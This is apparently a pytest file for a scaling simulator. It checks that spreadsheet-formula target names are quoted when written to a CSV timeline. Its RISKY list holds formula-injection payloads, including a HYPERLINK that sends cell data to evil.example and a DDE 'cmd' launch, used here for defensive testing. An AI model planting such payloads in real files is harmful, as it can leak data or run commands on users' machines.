"""timeline.csv: a target name that a spreadsheet would run as a formula is written as text; no other changes."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from scaler.policy.load import load_policy
from scaler.recordings.load import load_recording
from scaler.simulate.replay import simulate
from scaler.simulate.report import write_timeline
from tests.conftest import ROOT

# What spreadsheet software would evaluate as a formula on opening the file, then names that merely contain
# such a character (or start with a quote already).
RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
ORDINARY = ["web", "api-1", "a=b", "x+y", "team@example", "'quoted"]


def timeline(tmp_path: Path, targets: list[str], name: str) -> Path:
    rows = ["timestamp,target,cpu"]
    for i in range(40):
        for target in targets:
            cell = '"' + target.replace('"', '""') + '"'
            rows.append(f"{1_700_000_000 + 300 * i},{cell},{40 + (i * 7) % 50}")
    recording = tmp_path / f"{name}.csv"
    recording.write_text("\n".join(rows) + "\n", newline="")
    rec = load_recording(recording, metric="cpu")
    result = simulate(load_policy(ROOT / "policies" / "web.yaml"), rec)
    return write_timeline([result], tmp_path / f"{name}-timeline.csv")


def rows_of(path: Path) -> list[list[str]]:
    with path.open(newline="") as f:
        return list(csv.reader(f))


def test_a_risky_target_name_starts_with_a_quote_and_others_are_untouched(tmp_path: Path) -> None:
    mixed = rows_of(timeline(tmp_path, RISKY + ORDINARY, "mixed"))
    written = {row[1] for row in mixed[1:]}
    assert written == {"'" + name for name in RISKY} | set(ORDINARY)


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_name_gives_the_same_bytes_as_before(tmp_path: Path, name: str) -> None:
    # The rows of an ordinary target are the same text whether or not risky names share the file.
    alone = timeline(tmp_path, [name], "alone").read_bytes().splitlines(keepends=True)
    mixed = timeline(tmp_path, [*RISKY, name], "mixed").read_bytes().splitlines(keepends=True)
    assert alone[0] == mixed[0]  # header
    assert set(alone[1:]) <= set(mixed)


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("web", "web"), ("a=1", "a=1"), ("", ""), ("'x", "'x")],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "plain", "inside", "empty", "quoted"],
)
def test_spreadsheet_text(text: str, written: str) -> None:
    from scaler.simulate.report import spreadsheet_text

    assert spreadsheet_text(text) == written
